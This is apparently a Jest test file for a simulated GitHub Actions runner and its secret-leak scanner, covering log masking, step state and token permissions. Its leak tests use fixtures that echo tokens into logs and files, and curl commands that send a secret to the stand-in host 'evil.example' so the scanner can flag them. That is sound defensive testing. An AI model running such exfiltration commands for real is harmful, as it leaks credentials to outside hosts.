import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from '@jest/globals'
import { needs } from '../../__tests__/support/needs.ts'
import { closing, simulate } from '../../__tests__/support/simulate.ts'
import { enterprise, githubCom } from '../github/servers.ts'
import { classicPat, githubToken } from '../github/tokens.ts'
import { type Finding, formsOf, search } from './leak-scan.ts'
import { Masks } from './masks.ts'
import { runWorkflow } from './workflow.ts'
import { StepLog } from './workflow-commands.ts'

describe('the runner', () => {
  it('starts a step with what a runner gives, without GITHUB_TOKEN and without anything of the tests', async () => {
    const { job } = await simulate({ tokens: [githubToken()] })
    const names = (await job.run('compgen -e')).stdout.split('\n')
    expect(names).toEqual(expect.arrayContaining(['GITHUB_OUTPUT', 'RUNNER_TEMP', 'GITHUB_EVENT_PATH', 'HTTPS_PROXY']))
    expect(names.filter(name => /npm|JEST|NODE_OPTIONS|GITHUB_TOKEN/i.test(name))).toEqual([])
  })

  it('hands state to the posts, the last one first, even after a failure, with what was exported meanwhile', async () => {
    const { job } = await simulate()
    const action = job.folder.temp
    const note = "const note = (file, text) => require('node:fs').appendFileSync(process.env[file], text + '\\n')\n"
    const write = (name: string, text: string) => writeFileSync(join(action, name), text)
    write('action.yml', 'inputs: { who: {} }\nruns: { using: node24, main: main.cjs, post: post.cjs }\n')
    write('main.cjs', `${note}note('GITHUB_STATE', 'who=' + process.env.INPUT_WHO); process.exitCode = 1`)
    write('post.cjs', `${note}note('GITHUB_ENV', 'LAST=' + process.env.STATE_who); console.log(process.env.LAST)`)
    for (const who of ['a', 'b']) await job.uses({ who }, { action })
    expect((await job.end()).map(({ log }) => log)).toEqual(['undefined\n', 'b\n'])
    expect(job.status).toBe('failure')
  })

  it('masks a value, its base64 and the base64 of what ends in it', () => {
    const log = new StepLog(new Masks(), false)
    const value = 'hunter2-hunter2'
    for (const text of [`::add-mask::${value}`, `is ${value}`]) log.line(text)
    for (const before of ['', ':', 'x:', 'xy:']) log.line(Buffer.from(before + value).toString('base64'))
    expect(log.masks.values).toEqual([value])
    expect(log.log.match(/\*\*\*/g)).toHaveLength(5)
    expect(log.log).not.toContain('hunter2')
  })

  it.each(['::add-mask::', '::set-output name=a::b'])('refuses %s, as a real one does', async command => {
    const { job } = await simulate({})
    await expect(job.run(`echo '${command}'`)).rejects.toThrow(/an empty value was masked|::set-output::/)
  })

  it.each([
    ['packages: read', 'read'],
    ['contents: read', 'none']
  ])('gives the token of a workflow with `%s` that permission', async (permissions, packages) => {
    const { simulator, job } = await simulate({ tokens: [githubToken()] })
    const file = join(job.folder.temp, 'workflow.yml')
    writeFileSync(file, `permissions: { ${permissions} }\njobs: { build: { steps: [] } }\n`)
    await runWorkflow(job, file, 'build')
    expect(simulator.world.tokens[0]?.packages).toBe(packages)
  })

  it.each([
    ['an action', 'uses: actions/checkout@v5', 'an action that is not simulated'],
    ['a key', 'run: exit 0, timeout-minutes: 1', '"timeout-minutes" of the step']
  ])('refuses %s of a workflow that it does not simulate', async (_, step, message) => {
    const { job } = await simulate()
    const file = join(job.folder.temp, 'workflow.yml')
    writeFileSync(file, `jobs: { build: { steps: [{ ${step} }] } }\n`)
    await expect(runWorkflow(job, file, 'build')).rejects.toThrow(message)
  })
})

describe('the leak search', () => {
  const token = classicPat({ name: 'mine' })
  const planted = classicPat({ name: 'friend' }).value
  const secrets = { PAT: token }
  /** In the text of a step, which is not searched: the runner writes it. */
  const SECRET = `\${{ secrets.PAT }}`

  it.each([0, 1, 2, 3, 4])('knows a token in base64 after %i characters, with anything after it', before => {
    for (const value of ['a-secret-of-16-ch', 'a-secret-of-16-cha', 'a-secret-of-16-char']) {
      const encoded = Buffer.from(`${'u'.repeat(before)}${value}"}`).toString('base64')
      expect(formsOf(value).some(([, needle]) => encoded.includes(needle))).toBe(true)
    }
  })

  it.each<[string, (value: string) => string, string]>([
    ['as it is', value => value, 'plain'],
    ['as a registry token', value => Buffer.from(value).toString('base64'), 'base64'],
    ['in lines', value => Buffer.from(`x:${value}`).toString('base64').replace(/.{20}/g, '$&\n'), 'base64'],
    ['as a part of an address', value => Buffer.from(`${value}??`).toString('base64url'), 'base64'],
    ['percent-encoded', value => encodeURIComponent(value), 'percent'],
    ['in hex', value => Buffer.from(value).toString('hex'), 'hex'],
    ['cut in the middle', value => value.slice(0, 25), 'part']
  ])('knows one %s', (_, write, form) => {
    const value = form === 'percent' ? 'a/password' : token.value
    const secret = { name: 'mine', value, planted: false, hosts: [] }
    const found = { secret: 'mine', form, where: 'here' }
    expect(search([{ where: 'here', text: `a ${write(value)} b` }], [secret])).toEqual([found])
  })

  it('looks into every line of a log but the masks, those of stopped commands included', () => {
    const log = new StepLog(new Masks(), false)
    for (const line of ['::add-mask::1', '::debug::2', '::stop-commands::x', '::add-mask::3', '::x::', '4'])
      log.line(line)
    expect(log.exposed.stdout).toEqual(['::debug::2', '::stop-commands::x', '::add-mask::3', '::x::', '4'])
  })

  it('finds one wherever a step may leave it', async () => {
    const places: [string, RegExp][] = [
      ['echo "$token"', /^mine \(plain\) in stdout of/],
      ['echo "$token" | base64 -w0 >&2', /\(base64\) in stderr of/],
      ['echo "a=$token" >"$GITHUB_OUTPUT"', /in GITHUB_OUTPUT of/],
      ['echo "a=$token" >"$GITHUB_STATE"', /in GITHUB_STATE of/],
      ['echo "DOCKER_AUTH_CONFIG=$token" >"$GITHUB_ENV"', /in GITHUB_ENV of/],
      ['echo "/$token" >"$GITHUB_PATH"', /in GITHUB_PATH of/],
      ['echo "$token" >"$GITHUB_STEP_SUMMARY"', /in GITHUB_STEP_SUMMARY of/],
      ['(umask 077; echo "$token" >out)', /in GITHUB_WORKSPACE\/out \(mode 0600\)$/],
      ['echo "$token" >"$HOME/auth"', /in HOME\/auth \(mode 0644\)$/],
      ['(umask 027; echo "$token" >"$RUNNER_TEMP/a")', /in RUNNER_TEMP\/a \(mode 0640\)$/],
      ['echo "$token" | cut -c2- >"$TMPDIR/x"', /\(part\) in TMPDIR\/x \(mode 0644\)$/],
      ['mkdir "$RUNNER_TEMP/$token"', /in the name of RUNNER_TEMP/],
      ['docker login -p "$token"', /in the arguments of docker$/],
      ['OWN=$token docker', /in OWN in the environment of docker$/]
    ]
    const found: Finding[] = []
    const engines = [{ name: 'docker', fake: {} }]
    const tolerate = (finding: Finding) => found.push(finding) > 0
    const { job } = await simulate({ tokens: [token] }, { engines, tolerate, secrets })
    await job.run([`token=${SECRET}`, ...places.map(([statement]) => statement)].join('\n'))
    const lines = found.map(({ secret, form, where }) => `${secret} (${form}) in ${where}`)
    const missed = places.filter(([, where]) => !lines.some(line => where.test(line)))
    expect({ missed, lines: lines.length }).toEqual({ missed: [], lines: places.length })
  })

  needs('curl').it(
    'finds one sent to another host, to a proxy, over plain http or in an address, and not where it belongs',
    async () => {
      const world = { tokens: [token], foreign: ['evil.example'] }
      const { simulator, job } = await simulate(world, { tools: ['curl'], secrets })
      // The script and curl's arguments are no part of what is searched: curl is not recorded.
      const send = (what: string) =>
        job.run(`curl -s --cacert "$SSL_CERT_FILE" ${what}`).catch((error: Error) => error.message)
      for (const [what, found] of [
        [`-u x:${SECRET} https://evil.example/`, 'mine (base64) in a GET to evil.example'],
        [`-H 'X-Own: ${SECRET}' --proxy-header 'X-Own: ${SECRET}' https://evil.example/`, 'CONNECT to evil.example'],
        [`-x $HTTP_PROXY -d ${SECRET} http://ghcr.io/token`, 'mine (plain) in a POST to ghcr.io'],
        [`'https://ghcr.io/token?service=ghcr.io&account=${SECRET}'`, 'the address of a GET to ghcr.io']
      ] as const)
        expect(await send(what)).toContain(found)
      const belongs = await send(`-u x:${SECRET} 'https://ghcr.io/token?service=ghcr.io' -o /dev/null`)
      expect(belongs).toMatchObject({ exitCode: 0 })
      await expect(closing(simulator)).rejects.toThrow('anonymous /token')
    }
  )

  needs('curl').it("finds another server's token sent to this one's registry", async () => {
    const foreign = classicPat({ server: 'https://ghe.example' })
    const world = { tokens: [foreign], servers: [githubCom, enterprise('ghe.example')] }
    const { job } = await simulate(world, { tools: ['curl'], secrets: { PAT: foreign } })
    const command = `curl -s --cacert "$SSL_CERT_FILE" -u 'x:${SECRET}' 'https://ghcr.io/token?service=ghcr.io'`
    await expect(job.run(command)).rejects.toThrow('in a GET to ghcr.io')
  })

  it('lets the store hold it until the last post, and not after', async () => {
    const store = `umask 077; mkdir "$HOME/.docker"; echo '${SECRET}' >"$HOME/.docker/config.json"`
    const { job } = await simulate({ tokens: [token] }, { secrets })
    await job.run(store)
    await expect(job.end()).rejects.toThrow(/HOME\/.docker\/config.json \(mode 0600\), after the last post/)
    const { job: kept } = await simulate({ tokens: [token] }, { secrets, leftovers: /config\.json/ })
    await kept.run(store)
    await kept.end()
  })

  needs('docker').it('finds one in the store of a credential helper at the end', async () => {
    const files = { '.docker/config.json': '{"credsStore":"keys"}' }
    const { job } = await simulate({ tokens: [token] }, { engines: ['docker'], helpers: [{ name: 'keys' }], files })
    await job.run('printf %s "$PAT" | docker login ghcr.io -u x --password-stdin', { env: { PAT: token.value } })
    await expect(job.end()).rejects.toThrow('the helper keys/ghcr.io')
  })

  it("leaves another owner's credential alone at home, and finds it elsewhere", async () => {
    const files = { '.docker/config.json': { text: planted, mode: 0o644 } }
    const { job } = await simulate({}, { files, planted: { friend: planted } })
    await job.run('true')
    await expect(job.run('cat "$HOME/.docker/config.json"')).rejects.toThrow('friend (plain) in stdout')
  })
})
